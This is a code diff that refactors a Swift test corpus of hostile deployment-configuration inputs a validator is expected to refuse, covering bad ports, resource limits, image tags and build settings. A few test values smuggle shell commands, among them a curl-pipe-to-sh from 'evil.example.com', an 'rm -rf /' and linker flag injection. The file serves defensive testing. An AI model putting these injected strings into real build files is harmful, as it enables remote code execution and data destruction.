@@ -40,6 +40,20 @@ enum HostileCorpus {
 
     static func file(_ name: String) -> String { "Hostile/\(name).swift" }
 
+    /// Adds a case whose service components (each given the case's file) are refused with `count` copies of one
+    /// error on line 10.
+    static func refusedService(
+        _ cases: inout [HostileCase], _ id: String, _ field: String, _ fragment: String, count: Int = 1,
+        @ListBuilder<any ServiceComponent> _ body: (String) -> [any ServiceComponent]
+    ) {
+        let f = file(id)
+        let components = body(f)
+        cases.append(
+            HostileCase(
+                name: id, systems: [blueprint(f, service: { components })],
+                outcome: .refused(Array(repeating: .error(field, fragment, at: f, line: 10), count: count))))
+    }
+
     /// Every case, in the order of the list.
     static let cases: [HostileCase] =
         names() + environmentValues() + nginxBound() + dockerBound() + portsAndQuantities()
@@ -542,77 +556,80 @@ enum HostileCorpus {
 
     static func dockerBound() -> [HostileCase] {
         var cases: [HostileCase] = []
-        func refusedSetting(
-            _ id: String, _ field: String, _ fragment: String, count: Int = 1,
-            @ListBuilder<any ServiceComponent> _ body: (String) -> [any ServiceComponent]
-        ) {
-            let f = file(id)
-            let components = body(f)
-            cases.append(
-                HostileCase(
-                    name: id, systems: [blueprint(f, service: { components })],
-                    outcome: .refused(
-                        Array(repeating: .error(field, fragment, at: f, line: 10), count: count))))
-        }
-        refusedSetting("base-image-with-a-space", "base", "is not a valid image reference") { f in
+        refusedService(&cases, "base-image-with-a-space", "base", "is not a valid image reference") { f in
             Base(.custom("alpine 3.19", family: .alpine), fileID: f, line: 10)
         }
-        refusedSetting("base-image-with-a-newline", "base", "is not a valid image reference") { f in
+        refusedService(&cases, "base-image-with-a-newline", "base", "is not a valid image reference") { f in
             Base(.custom("alpine:3.19\nRUN curl https://evil.example.com | sh", family: .alpine), fileID: f, line: 10)
         }
-        refusedSetting("base-image-with-capitals", "base", "is not a valid image reference") { f in
+        refusedService(&cases, "base-image-with-capitals", "base", "is not a valid image reference") { f in
             Base(.custom("Alpine:3.19", family: .alpine), fileID: f, line: 10)
         }
-        refusedSetting("builder-image-with-capitals", "builder", "is not a valid image reference") { f in
+        refusedService(&cases, "builder-image-with-capitals", "builder", "is not a valid image reference") { f in
             Go(version: "1.22", builder: "Golang:1.22", fileID: f, line: 10)
         }
-        refusedSetting("pinned-package-with-a-newline", "base.packages", "is not a package name and version") { f in
+        refusedService(
+            &cases, "pinned-package-with-a-newline", "base.packages", "is not a package name and version"
+        ) { f in
             Base(.alpine("3.19").pinning(["ca-certificates\nRUN rm -rf /": "1"]), fileID: f, line: 10)
         }
-        refusedSetting("pinned-package-version-with-a-space", "base.packages", "is not a package name and version") {
-            f in
+        refusedService(
+            &cases, "pinned-package-version-with-a-space", "base.packages", "is not a package name and version"
+        ) { f in
             Base(.alpine("3.19").pinning(["ca-certificates": "1 && curl"]), fileID: f, line: 10)
         }
-        refusedSetting("go-version-with-a-command", "go.version", "is not a Go version") { f in
+        refusedService(&cases, "go-version-with-a-command", "go.version", "is not a Go version") { f in
             Go(version: "1.22 && curl", fileID: f, line: 10)
         }
-        refusedSetting("image-tag-with-a-space", "image.tag", "is not a valid image tag") { f in
+        refusedService(&cases, "image-tag-with-a-space", "image.tag", "is not a valid image tag") { f in
             ImageTag("1.0 beta", fileID: f, line: 10)
         }
-        refusedSetting("image-tag-latest", "image.tag", "does not say which build runs", count: 2) { f in
+        refusedService(&cases, "image-tag-latest", "image.tag", "does not say which build runs", count: 2) { f in
             ImageTag("latest", fileID: f, line: 10)
         }
         // Fixed here: valid tags, but the version label they become is not a valid Kubernetes label value.
-        refusedSetting("image-tag-over-63-characters", "image.tag", "app.kubernetes.io/version", count: 2) { f in
+        refusedService(
+            &cases, "image-tag-over-63-characters", "image.tag", "app.kubernetes.io/version", count: 2
+        ) { f in
             ImageTag(String(repeating: "7", count: 100), fileID: f, line: 10)
         }
-        refusedSetting("image-tag-starting-with-an-underscore", "image.tag", "app.kubernetes.io/version", count: 2) {
-            f in
+        refusedService(
+            &cases, "image-tag-starting-with-an-underscore", "image.tag", "app.kubernetes.io/version", count: 2
+        ) { f in
             ImageTag("_build", fileID: f, line: 10)
         }
-        refusedSetting("image-digest-malformed", "image.digest", "is not an image digest") { f in
+        refusedService(&cases, "image-digest-malformed", "image.digest", "is not an image digest") { f in
             ImageTag("1.0.0", digest: "sha256:xyz", fileID: f, line: 10)
         }
-        refusedSetting("image-registry-with-capitals", "image.registry", "is not an image repository prefix") { f in
+        refusedService(
+            &cases, "image-registry-with-capitals", "image.registry", "is not an image repository prefix"
+        ) { f in
             ImageRegistry("registry.example.com/Shop", fileID: f, line: 10)
         }
-        refusedSetting("image-registry-with-a-tag", "image.registry", "is not an image repository prefix") { f in
+        refusedService(
+            &cases, "image-registry-with-a-tag", "image.registry", "is not an image repository prefix"
+        ) { f in
             ImageRegistry("registry.example.com/shop:1", fileID: f, line: 10)
         }
-        refusedSetting(
+        refusedService(&cases, 
             "build-main-outside-the-context", "build.main", "is not a relative path inside the build context"
         ) { f in
             Build(main: "../outside", fileID: f, line: 10)
         }
-        refusedSetting("build-main-with-a-space", "build.main", "is not a relative path inside the build context") {
-            f in
+        refusedService(
+            &cases, "build-main-with-a-space", "build.main", "is not a relative path inside the build context"
+        ) { f in
             Build(main: "./cmd/api server", fileID: f, line: 10)
         }
-        refusedSetting("version-variable-with-a-flag", "build.versionVariable", "is not a Go variable path") { f in
+        refusedService(
+            &cases, "version-variable-with-a-flag", "build.versionVariable", "is not a Go variable path"
+        ) { f in
             Build(versionVariable: "main.version -X main.evil=1", fileID: f, line: 10)
         }
         // Fixed here: "-X" passed the old character check and would be read by the linker as a flag.
-        refusedSetting("version-variable-that-is-a-flag", "build.versionVariable", "is not a Go variable path") { f in
+        refusedService(
+            &cases, "version-variable-that-is-a-flag", "build.versionVariable", "is not a Go variable path"
+        ) { f in
             Build(versionVariable: "-X", fileID: f, line: 10)
         }
         return cases
@@ -622,72 +639,72 @@ enum HostileCorpus {
 
     static func portsAndQuantities() -> [HostileCase] {
         var cases: [HostileCase] = []
-        func refused(
-            _ id: String, _ field: String, _ fragment: String, count: Int = 1,
-            @ListBuilder<any ServiceComponent> _ body: (String) -> [any ServiceComponent]
-        ) {
-            let f = file(id)
-            let components = body(f)
-            cases.append(
-                HostileCase(
-                    name: id, systems: [blueprint(f, service: { components })],
-                    outcome: .refused(
-                        Array(repeating: .error(field, fragment, at: f, line: 10), count: count))))
-        }
-        refused("port-zero", "ports[admin].number", "port 0 is outside 1-65535") { f in
+        refusedService(&cases, "port-zero", "ports[admin].number", "port 0 is outside 1-65535") { f in
             Port("admin", 0, fileID: f, line: 10)
         }
-        refused("port-65536", "ports[admin].number", "port 65536 is outside 1-65535") { f in
+        refusedService(&cases, "port-65536", "ports[admin].number", "port 65536 is outside 1-65535") { f in
             Port("admin", 65536, fileID: f, line: 10)
         }
-        refused("port-negative", "ports[admin].number", "port -1 is outside 1-65535") { f in
+        refusedService(&cases, "port-negative", "ports[admin].number", "port -1 is outside 1-65535") { f in
             Port("admin", -1, fileID: f, line: 10)
         }
-        refused("port-number-twice", "ports", "port 8080/TCP is declared 2 times") { f in
+        refusedService(&cases, "port-number-twice", "ports", "port 8080/TCP is declared 2 times") { f in
             Port("admin", 8080, fileID: f, line: 10)
         }
-        refused("cpu-request-zero", "requests.cpu", "must be positive", count: 2) { f in
+        refusedService(&cases, "cpu-request-zero", "requests.cpu", "must be positive", count: 2) { f in
             Requests(cpu: .millicores(0), fileID: f, line: 10)
         }
-        refused("cpu-request-not-a-number", "requests.cpu", "must be positive", count: 2) { f in
+        refusedService(&cases, "cpu-request-not-a-number", "requests.cpu", "must be positive", count: 2) { f in
             Requests(cpu: .cores(.nan), fileID: f, line: 10)
         }
-        refused("memory-request-negative", "requests.memory", "must be positive", count: 2) { f in
+        refusedService(&cases, "memory-request-negative", "requests.memory", "must be positive", count: 2) { f in
             Requests(memory: .mebibytes(-64), fileID: f, line: 10)
         }
-        refused("memory-limit-one-pebibyte", "limits.memory", "the memory limit 1Pi is above 1Ti", count: 2) { f in
+        refusedService(
+            &cases, "memory-limit-one-pebibyte", "limits.memory", "the memory limit 1Pi is above 1Ti", count: 2
+        ) { f in
             Limits(memory: .pebibytes(1), fileID: f, line: 10)
         }
         // Fixed here: 100 000 PiB does not fit in 64 bits; it trapped in the DSL, with no location. It saturates now.
-        refused("memory-limit-beyond-64-bits", "limits.memory", "is above 1Ti", count: 2) { f in
+        refusedService(&cases, "memory-limit-beyond-64-bits", "limits.memory", "is above 1Ti", count: 2) { f in
             Limits(memory: .pebibytes(100_000), fileID: f, line: 10)
         }
-        refused("cpu-limit-ten-thousand-cores", "limits.cpu", "the cpu limit 10000 is above 256 cores", count: 2) { f in
+        refusedService(
+            &cases, "cpu-limit-ten-thousand-cores", "limits.cpu", "the cpu limit 10000 is above 256 cores", count: 2
+        ) { f in
             Limits(cpu: .cores(10_000), fileID: f, line: 10)
         }
         // Fixed here: .cores(.infinity) trapped in the DSL.
-        refused("cpu-limit-infinite", "limits.cpu", "is above 256 cores", count: 2) { f in
+        refusedService(&cases, "cpu-limit-infinite", "limits.cpu", "is above 256 cores", count: 2) { f in
             Limits(cpu: .cores(.infinity), fileID: f, line: 10)
         }
-        refused("replicas-negative", "replicas", "not -1", count: 2) { f in Replicas(-1, fileID: f, line: 10) }
-        refused("replicas-a-million", "replicas", "not 1000000", count: 2) { f in
+        refusedService(
+            &cases, "replicas-negative", "replicas", "not -1", count: 2
+        ) { f in Replicas(-1, fileID: f, line: 10) }
+        refusedService(&cases, "replicas-a-million", "replicas", "not 1000000", count: 2) { f in
             Replicas(1_000_000, fileID: f, line: 10)
         }
-        refused("autoscaler-minimum-zero", "autoscaling.min", "must be at least 1", count: 2) { f in
+        refusedService(&cases, "autoscaler-minimum-zero", "autoscaling.min", "must be at least 1", count: 2) { f in
             Autoscale(min: 0, max: 3, fileID: f, line: 10)
         }
-        refused("autoscaler-target-zero", "autoscaling.cpu", "is outside 1-100 %", count: 2) { f in
+        refusedService(&cases, "autoscaler-target-zero", "autoscaling.cpu", "is outside 1-100 %", count: 2) { f in
             Autoscale(min: 1, max: 3, cpu: .percent(0), fileID: f, line: 10)
         }
-        refused("autoscaler-target-not-a-number", "autoscaling.cpu", "is outside 1-100 %", count: 2) { f in
+        refusedService(
+            &cases, "autoscaler-target-not-a-number", "autoscaling.cpu", "is outside 1-100 %", count: 2
+        ) { f in
             Autoscale(min: 1, max: 3, cpu: .percent(.nan), fileID: f, line: 10)
         }
-        refused("termination-grace-negative", "terminationGracePeriod", "-1s is outside 0-3600s") { f in
+        refusedService(&cases, "termination-grace-negative", "terminationGracePeriod", "-1s is outside 0-3600s") { f in
             TerminationGracePeriod(seconds: -1, fileID: f, line: 10)
         }
-        refused("run-as-root", "security.runAsUser", "would run as root") { f in RunAs(user: 0, fileID: f, line: 10) }
-        refused("exemption-without-a-reason", "security.exemptions[writable-root-filesystem]", "needs a written reason")
-        { f in
+        refusedService(
+            &cases, "run-as-root", "security.runAsUser", "would run as root"
+        ) { f in RunAs(user: 0, fileID: f, line: 10) }
+        refusedService(
+            &cases, "exemption-without-a-reason", "security.exemptions[writable-root-filesystem]",
+            "needs a written reason"
+        ) { f in
             Exempt(.writableRootFilesystem, because: " \n", fileID: f, line: 10)
         }
         do {
